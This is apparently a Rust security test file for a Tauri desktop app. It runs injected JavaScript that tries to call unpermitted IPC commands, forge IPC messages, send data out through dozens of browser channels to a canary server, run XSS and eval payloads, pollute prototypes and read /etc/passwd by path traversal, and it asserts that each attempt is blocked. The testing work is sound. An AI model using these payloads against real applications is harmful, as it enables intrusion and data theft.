//! What a script could do that got into the page in spite of everything: call our commands, and nothing else.
//!
//! The scripts run in the page's own world, through WebDriver, which no policy of the page holds back.

use std::{
    collections::BTreeSet,
    fs,
    path::{Path, PathBuf},
};

use anyhow::{Context as _, Result, ensure};
use serde::Deserialize;
use serde_json::{Value, json};
use window_driver::{Window, folders, pages::Console};

use super::{Page, canary::Canary, hostile::Hostile, signed_in, unharmed};
use crate::stage::Stage;

/// What came of an attempt.
#[derive(Deserialize)]
struct Outcome {
    name: String,
    said: String,
}

/// Every command that any part of the build knows, with its plugin, as the build itself lists them.
fn known_commands() -> Result<BTreeSet<(String, String)>> {
    let path = folders::root().join("gen/schemas/acl-manifests.json");
    let text = fs::read_to_string(&path).with_context(|| format!("cannot read {}", path.display()))?;
    let manifests: Value = serde_json::from_str(&text)?;
    let mut known = BTreeSet::new();
    for (plugin, manifest) in manifests.as_object().context("an object of plugins")? {
        let permissions = manifest["permissions"].as_object().context("permissions")?;
        for permission in permissions.values() {
            let allowed = permission["commands"]["allow"].as_array().into_iter().flatten();
            known.extend(allowed.filter_map(|name| Some((plugin.clone(), name.as_str()?.to_owned()))));
        }
    }
    Ok(known)
}

/// Invokes commands one beside the other, and tells what became of each: `resolved`, or what it was refused with.
async fn invoked(window: &Window, commands: &[String], arguments: &Value) -> Result<Vec<Outcome>> {
    const INVOKE: &str = "
        const [names, args, done] = arguments;
        const late = new Promise(resolve => setTimeout(resolve, 10_000, 'no answer'));
        Promise.all(names.map(async name => {
            const said = window.__TAURI_INTERNALS__.invoke(name, args).then(() => 'resolved', why => 'refused: ' +
                (typeof why === 'string' ? why : JSON.stringify(why)));
            return { name, said: await Promise.race([said, late]) };
        })).then(done)";
    window
        .script_async(INVOKE, &[json!(commands), arguments.clone()])
        .await
}

#[tokio::test(flavor = "multi_thread")]
async fn no_command_but_ours_can_be_called() -> Result<()> {
    let stage = Stage::set("cage_commands").await?;
    let (api, canary) = (Hostile::start().await?, Canary::start().await?);
    let window = stage.open().await?;
    signed_in(&window, &api).await?;
    let before = Page::of(&window).await?;

    let mut others: BTreeSet<String> = known_commands()?
        .into_iter()
        .filter(|(plugin, _)| plugin != "__app-acl__")
        .map(|(plugin, command)| format!("plugin:{}|{command}", plugin.trim_start_matches("core:")))
        .collect();
    ensure!(
        others.len() > 150,
        "the build knows more commands than {others:?}"
    );
    for heard in ["plugin:event|listen", "plugin:event|unlisten"] {
        ensure!(others.remove(heard), "{heard} is how the window hears events");
    }
    // Of plugins that this app does not have, and names that lead elsewhere.
    for guess in [
        "plugin:fs|read_text_file",
        "plugin:fs|write_file",
        "plugin:shell|execute",
        "plugin:shell|open",
        "plugin:opener|open_url",
        "plugin:opener|open_path",
        "plugin:http|fetch",
        "plugin:process|restart",
        "plugin:updater|download_and_install",
        "plugin:clipboard-manager|read_text",
        "plugin:guard|anything",
        "plugin:single-instance|callback",
        "plugin:",
        "plugin:|",
        "plugin:store",
        "",
        "login2",
        "../login",
        "__app-acl__|login",
        "constructor",
        "toString",
    ] {
        others.insert(guess.to_owned());
    }
    let others: Vec<_> = others.into_iter().collect();
    let arguments = json!({
        "path": "/etc/passwd", "label": "main", "event": "session-ended", "payload": {}, "target": {"kind": "Any"},
        "options": {"url": "https://example.invalid", "label": "other"}, "value": true, "rid": 0, "key": "sessions",
    });
    for outcome in invoked(&window, &others, &arguments).await? {
        let refused = outcome.said.starts_with("refused: ")
            && (outcome.said.contains("not allowed") || outcome.said.contains("not found"));
        ensure!(refused, "{}: {}", outcome.name, outcome.said);
    }

    // Ours with arguments that nobody of ours would send: an error each, and the app lives.
    let ours: Vec<String> = known_commands()?
        .into_iter()
        .filter(|(plugin, command)| plugin == "__app-acl__" && !command.starts_with("choose_"))
        .map(|(_, command)| command)
        .collect();
    ensure!(ours.contains(&"login".to_owned()), "{ours:?}");
    let deep = (0..200).fold(json!(0), |inner, _| json!([inner]));
    for arguments in [
        json!({}),
        json!({"request": null}),
        json!({"request": 7}),
        json!({"request": deep}),
    ] {
        for outcome in invoked(&window, &ours, &arguments).await? {
            let refused = outcome.said.starts_with("refused: ");
            ensure!(refused, "{} with {arguments}: {}", outcome.name, outcome.said);
        }
    }
    unharmed(stage, window, &before, &api, &canary).await
}

/// Without the key that the app's own start-up script holds in a closure, a message is not even looked at.
#[tokio::test(flavor = "multi_thread")]
async fn frames_and_messages_of_their_own_reach_no_command() -> Result<()> {
    const SEND: &str = "
        const [done] = arguments;
        const found = {};
        const headers = { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2',
            'Tauri-Invoke-Key': 'guessed' };
        const post = (fetch) => Promise.race([
            fetch('ipc://localhost/logout', { method: 'POST', headers, body: '{\"request\":{}}' })
                .then(answer => 'answered ' + answer.status, () => 'refused'),
            new Promise(resolve => setTimeout(resolve, 1_000, 'unanswered')),
        ]);
        const message = JSON.stringify({ cmd: 'logout', callback: 1, error: 2, payload: { request: {} }, options: {},
            __TAURI_INVOKE_KEY__: 'guessed' });
        const frame = (set) => new Promise(resolve => {
            const frame = document.createElement('iframe');
            frame.onload = () => resolve(frame);
            setTimeout(resolve, 1_000, frame);
            set(frame);
            document.body.append(frame);
        });
        (async () => {
            found.main = await post(window.fetch.bind(window));
            window.ipc?.postMessage(message);
            const kinds = {
                blank: it => {},
                srcdoc: it => { it.srcdoc = '<script>parent.__pwned = 1</script><p>hello</p>'; },
                data: it => { it.src = 'data:text/html,<script>parent.__pwned = 1</script>'; },
                blob: it => { it.src = URL.createObjectURL(new Blob(['<script>parent.__pwned = 1</script>'], {type: 'text/html'})); },
                own: it => { it.src = location.href; },
                ipc: it => { it.src = 'ipc://localhost/logout'; },
                script: it => { it.src = 'javascript:parent.__pwned = 1'; },
                sandbox: it => { it.sandbox = 'allow-scripts'; it.srcdoc = '<p>hello</p>'; },
            };
            for (const [name, set] of Object.entries(kinds)) {
                const it = await frame(set);
                let inside = null;
                try { inside = it.contentWindow; inside.document; } catch { inside = null; }
                found[name] = !inside ? 'closed' : inside.__TAURI_INTERNALS__ ? 'has the bridge' :
                    (inside.document.body?.innerHTML.includes('data-testid') ? 'holds the app' : await post(inside.fetch.bind(inside)));
                try { inside?.webkit?.messageHandlers?.ipc?.postMessage(message); } catch {}
                it.remove();
            }
            done(found);
        })();";
    let stage = Stage::set("cage_frames").await?;
    let (api, canary) = (Hostile::start().await?, Canary::start().await?);
    let window = stage.open().await?;
    signed_in(&window, &api).await?;
    let before = Page::of(&window).await?;
    let found: std::collections::BTreeMap<String, String> = window.script_async(SEND, &[]).await?;
    ensure!(found.len() == 9, "{found:?}");
    for (name, what) in &found {
        ensure!(
            ["closed", "refused", "unanswered"].contains(&what.as_str()),
            "{name}: {found:#?}"
        );
    }
    // Nobody was signed out.
    unharmed(stage, window, &before, &api, &canary).await
}

/// Every way out of a page that there is, to a server that lets everybody in.
const WAYS_OUT: &str = r"
    const [server, file, done] = arguments;
    const ws = server.replace('http', 'ws');
    const said = {};
    const late = () => new Promise(resolve => setTimeout(resolve, 2_500, 'nothing'));
    const soon = () => new Promise(resolve => setTimeout(resolve, 400, 'nothing'));
    const element = (name, set) => () => new Promise(resolve => {
        const it = document.createElement(name);
        it.onload = () => resolve('loaded');
        it.onerror = () => resolve('blocked');
        set(it);
        document.body.append(it);
        setTimeout(() => it.remove(), 3_000);
    });
    const link = (rel, more) => element('link', it => Object.assign(it, { rel, href: server + '/link-' + rel }, more));
    const ways = {
        fetch: () => fetch(server + '/fetch').then(() => 'open'),
        no_cors: () => fetch(server + '/no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' }).then(() => 'open'),
        xhr: () => new Promise((resolve, reject) => {
            const it = new XMLHttpRequest();
            it.open('GET', server + '/xhr'); it.onload = () => resolve('open'); it.onerror = reject; it.send();
        }),
        beacon: () => navigator.sendBeacon(server + '/beacon', 'secret') ? 'queued' : 'refused',
        socket: () => new Promise((resolve, reject) => {
            const it = new WebSocket(ws + '/socket'); it.onopen = () => resolve('open'); it.onerror = reject;
        }),
        events: () => new Promise((resolve, reject) => {
            const it = new EventSource(server + '/events'); it.onopen = () => resolve('open');
            it.onerror = () => { it.close(); reject(); };
        }),
        image: element('img', it => { it.src = server + '/image'; }),
        srcset: element('img', it => { it.srcset = server + '/srcset 2x'; }),
        script: element('script', it => { it.src = server + '/script.js'; }),
        module: element('script', it => { it.type = 'module'; it.src = server + '/module.js'; }),
        style: link('stylesheet'), preload: link('preload', { as: 'image' }), prefetch: link('prefetch'),
        preconnect: link('preconnect'), dns: link('dns-prefetch'), icon: link('icon'), manifest: link('manifest'),
        modulepreload: link('modulepreload'),
        frame: element('iframe', it => { it.src = server + '/frame'; }),
        object: element('object', it => { it.data = server + '/object'; }),
        embed: element('embed', it => { it.src = server + '/embed'; }),
        video: element('video', it => { it.src = server + '/video'; it.autoplay = true; }),
        audio: element('audio', it => { it.src = server + '/audio'; it.autoplay = true; }),
        track: element('video', it => { it.innerHTML = `<source src='${server}/source'><track default src='${server}/track'>`; }),
        svg: element('div', it => { it.innerHTML = `<svg><image href='${server}/svg-image'/><use href='${server}/use#a'/></svg>`; }),
        background: element('div', it => { it.style.backgroundImage = `url(${server}/background)`; it.textContent = 'x'; }),
        font: () => new FontFace('leak', `url(${server}/font)`).load().then(() => 'open'),
        import: () => import(server + '/import.js').then(() => 'open'),
        worker: () => new Promise((resolve, reject) => {
            const it = new Worker(URL.createObjectURL(new Blob([`postMessage(1); fetch('${server}/worker')`])));
            it.onmessage = () => resolve('ran'); it.onerror = reject;
        }),
        far_worker: () => { new Worker(server + '/far-worker.js'); return late(); },
        shared: () => { new SharedWorker(server + '/shared.js'); return late(); },
        service: () => navigator.serviceWorker.register(server + '/service.js').then(() => 'open'),
        open: () => { const it = window.open(server + '/open'); return it ? 'a window' : 'none'; },
        blank: () => { const it = window.open('about:blank', '_blank'); return it ? 'a window' : 'none'; },
        ping: () => { Object.assign(document.createElement('a'), { href: '#', ping: server + '/ping' }).click(); return late(); },
        meta: element('meta', it => { it.httpEquiv = 'refresh'; it.content = `0;url=${server}/meta`; }),
        file_fetch: () => fetch(file).then(() => 'open'),
        file_image: element('img', it => { it.src = file; }),
        protocol: () => { navigator.registerProtocolHandler('web+latchkey', server + '/%s'); return late(); },
        rtc: () => {
            if (!window.RTCPeerConnection) return 'none';
            const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + server.slice(7) }, { urls: 'turn:' + server.slice(7) + '?transport=tcp', username: 'u', credential: 'c' }] });
            it.createDataChannel('leak'); it.createOffer().then(offer => it.setLocalDescription(offer)); return late();
        },
    };
    // One after the other: a navigation takes the place of one that has not begun yet.
    const moves = {
        form: () => {
            const it = document.createElement('form');
            Object.assign(it, { action: server + '/form', method: 'post' });
            document.body.append(it); it.submit(); it.remove(); return soon();
        },
        form_get: () => {
            const it = document.createElement('form');
            Object.assign(it, { action: server + '/form-get', target: '_blank' });
            document.body.append(it); it.submit(); it.remove(); return soon();
        },
        anchor: () => { Object.assign(document.createElement('a'), { href: server + '/anchor', target: '_blank' }).click(); return soon(); },
        navigate: () => { location.href = server + '/navigate'; return soon(); },
        replace: () => { location.replace(server + '/replace'); return soon(); },
        localhost: () => { location.href = server.replace('127.0.0.1', 'tauri.localhost') + '/tauri.localhost'; return soon(); },
        script_url: () => { location.href = 'javascript:window.__pwned = 1'; return soon(); },
        file: () => { location.href = file; return soon(); },
        data_page: () => { location.href = 'data:text/html,<script>fetch(`' + server + '/data`)</script>'; return soon(); },
        blob_page: () => { location.href = URL.createObjectURL(new Blob(['<script>fetch(`' + server + '/blob`)</script>'], { type: 'text/html' })); return soon(); },
    };
    const attempt = async ([name, way]) => {
        try { said[name] = await Promise.race([way(), late()]); } catch (why) { said[name] = 'refused: ' + why; }
    };
    (async () => {
        await Promise.all(Object.entries(ways).map(attempt));
        for (const move of Object.entries(moves)) {
            await attempt(move);
        }
        done(said);
    })();";

#[tokio::test(flavor = "multi_thread")]
async fn no_way_leads_out_of_the_page() -> Result<()> {
    const FETCH: &str = "const [url, done] = arguments; \
        fetch(url, {mode: 'no-cors'}).then(() => done('open'), () => done('refused'))";
    let stage = Stage::set("cage_ways_out").await?;
    let (api, canary) = (Hostile::start().await?, Canary::start().await?);
    let window = stage.open().await?;
    signed_in(&window, &api).await?;
    let before = Page::of(&window).await?;
    window.script::<()>("window.__here = 1; return null", &[]).await?;
    let arguments = [json!(canary.url()), json!("file:///etc/passwd")];
    let said: std::collections::BTreeMap<String, String> = window.script_async(WAYS_OUT, &arguments).await?;
    ensure!(said.len() > 45, "{said:#?}");
    for (name, what) in &said {
        // A frame that was refused is told like one that was loaded: the canary knows.
        let out = ["open", "loaded", "ran", "a window"].contains(&what.as_str()) && name != "frame";
        ensure!(!out, "{name}: {said:#?}");
    }
    // No policy of a web view covers a connection on which nothing is said: it opens one for `preconnect`, and ahead of a
    // navigation that is then refused.
    let words: Vec<_> = canary
        .calls()
        .into_iter()
        .filter(|call| !call.is_empty())
        .collect();
    ensure!(words.is_empty(), "it was reached: {words:#?}");
    canary.is_alive().await?;
    let canary = Canary::start().await?;
    // The practice API listens on this computer too, and is as far away for the page as any other.
    let practice = format!("{}/api/status/204", stage.api.url());
    let calls = stage.api.stats().calls;
    assert_eq!(
        window.script_async::<String>(FETCH, &[json!(practice)]).await?,
        "refused"
    );
    assert_eq!(stage.api.stats().calls, calls);
    window
        .until("the elements of the attempts to be gone", async || {
            let left: usize = window
                .script(
                    "return document.querySelectorAll('body > :not(#app):not(script):not(noscript)').length",
                    &[],
                )
                .await?;
            Ok((left == 0).then_some(()))
        })
        .await?;
    ensure!(
        window.script::<bool>("return window.__here === 1", &[]).await?,
        "the page was loaded anew"
    );
    unharmed(stage, window, &before, &api, &canary).await
}

#[tokio::test(flavor = "multi_thread")]
async fn text_never_becomes_code_and_no_file_is_served_or_saved() -> Result<()> {
    const RUN: &str = r"
        const [done] = arguments;
        const said = {};
        const broken = new Set();
        document.addEventListener('securitypolicyviolation', it => broken.add(it.effectiveDirective));
        const attempt = (name, way) => { try { said[name] = String(way()); } catch (why) { said[name] = 'refused'; } };
        const into = (html) => { const it = document.createElement('div'); it.innerHTML = html; document.body.append(it); return it; };
        attempt('eval', () => (0, eval)('window.__pwned = 1'));
        attempt('function', () => new Function('window.__pwned = 1')());
        attempt('timeout', () => setTimeout('window.__pwned = 1', 0));
        attempt('inline', () => { const it = document.createElement('script'); it.textContent = 'window.__pwned = 1'; document.body.append(it); it.remove(); });
        attempt('blob', () => { const it = document.createElement('script'); it.src = URL.createObjectURL(new Blob(['window.__pwned = 1'])); document.body.append(it); it.remove(); });
        attempt('data', () => { const it = document.createElement('script'); it.src = 'data:text/javascript,window.__pwned = 1'; document.body.append(it); it.remove(); });
        const made = into(`<img src=x onerror='window.__pwned = 1'><a id=js href='javascript:window.__pwned = 1'>x</a>
            <svg onload='window.__pwned = 1'></svg><style>#app { visibility: hidden }</style><p style='color: red' id=styled>x</p>`);
        made.querySelector('#js').click();
        attempt('prototype', () => { 'use strict'; Object.prototype.polluted = 1; });
        said.polluted = String('polluted' in {});
        said.frozen = String(Object.isFrozen(Object.prototype));
        const paths = ['/../../../../etc/passwd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '//etc/passwd', '/..%5c..%5cetc%5cpasswd',
            '/etc/passwd', '/%00/etc/passwd', '/assets/%252e%252e/etc/passwd', '/index.html/../../etc/passwd'];
        const home = location.origin;
        (async () => {
            // What is loaded or refused by then has been.
            await new Promise(resolve => setTimeout(resolve, 1_000));
            said.styled = getComputedStyle(made.querySelector('#styled')).color;
            said.hidden = getComputedStyle(document.querySelector('#app')).visibility;
            made.remove();
            const index = await (await fetch('/')).text();
            for (const path of paths) {
                said['served ' + path] = await fetch(home + path).then(async it => {
                    const text = await it.text();
                    return text.includes('root:') ? 'the file' : text === index ? 'the start page' : text.slice(0, 100);
                }, () => 'refused');
            }
            said.asset = await fetch('asset://localhost/' + encodeURIComponent('/etc/passwd')).then(() => 'open', () => 'refused');
            for (const [name, href] of [['blob', URL.createObjectURL(new Blob(['#!/bin/sh']))], ['data', 'data:text/plain,evil']]) {
                Object.assign(document.createElement('a'), { href, download: `evil-${name}.desktop` }).click();
            }
            await new Promise(resolve => setTimeout(resolve, 1_000));
            said.broken = [...broken].sort().join(' ');
            done(said);
        })();";
    let stage = Stage::set("cage_code").await?;
    let (api, canary) = (Hostile::start().await?, Canary::start().await?);
    let downloads = stage.data().join("downloads");
    save_into(stage.data(), &downloads)?;
    let window = stage.open().await?;
    signed_in(&window, &api).await?;
    let before = Page::of(&window).await?;
    let said: std::collections::BTreeMap<String, String> = window.script_async(RUN, &[]).await?;
    for name in ["eval", "function"] {
        assert_eq!(said[name], "refused", "{said:#?}");
    }
    assert_eq!(
        (said["polluted"].as_str(), said["frozen"].as_str()),
        ("false", "true"),
        "{said:#?}"
    );
    assert_ne!(said["styled"], "rgb(255, 0, 0)", "{said:#?}");
    assert_eq!(said["hidden"], "visible", "{said:#?}");
    for (name, what) in said.iter().filter(|(name, _)| name.starts_with("served ")) {
        ensure!(
            ["the start page", "refused"].contains(&what.as_str()),
            "{name}: {what}"
        );
    }
    assert_eq!(said["asset"], "refused", "{said:#?}");
    for directive in ["script-src-elem", "script-src-attr", "style-src"] {
        ensure!(said["broken"].contains(directive), "{directive}: {said:#?}");
    }
    let saved: Vec<PathBuf> = fs::read_dir(&downloads)?
        .map(|entry| Ok(entry?.path()))
        .collect::<Result<_>>()?;
    ensure!(saved.is_empty(), "{saved:?}");
    Console::shown(&window).await?;
    unharmed(stage, window, &before, &api, &canary).await
}

/// Has the web view save what it downloads into that folder, as far as the system's settings decide.
fn save_into(data: &Path, downloads: &Path) -> Result<()> {
    let config = data.join("web/config");
    fs::create_dir_all(&config)?;
    fs::create_dir_all(downloads)?;
    let line = format!("XDG_DOWNLOAD_DIR=\"{}\"\n", downloads.display());
    Ok(fs::write(config.join("user-dirs.dirs"), line)?)
}
